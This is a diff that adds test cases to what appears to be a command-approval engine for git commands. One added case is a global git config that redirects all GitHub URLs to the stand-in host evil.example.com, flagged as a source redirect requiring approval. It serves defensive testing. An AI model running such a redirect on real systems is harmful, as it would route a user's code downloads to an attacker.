@@ -143,5 +143,11 @@ describe('vcs/git through the engine', () => {
       programs: ['git'],
     },
     { command: 'git submodule foreach git pull origin main', effect: 'allow' },
+    {
+      command: 'git config --global url."https://evil.example.com/".insteadOf "https://github.com/"',
+      effect: 'ask',
+      findings: ['shell.source_redirect'],
+    },
+    { command: 'git config --global init.defaultBranch main', effect: 'allow' },
   ]);
 });
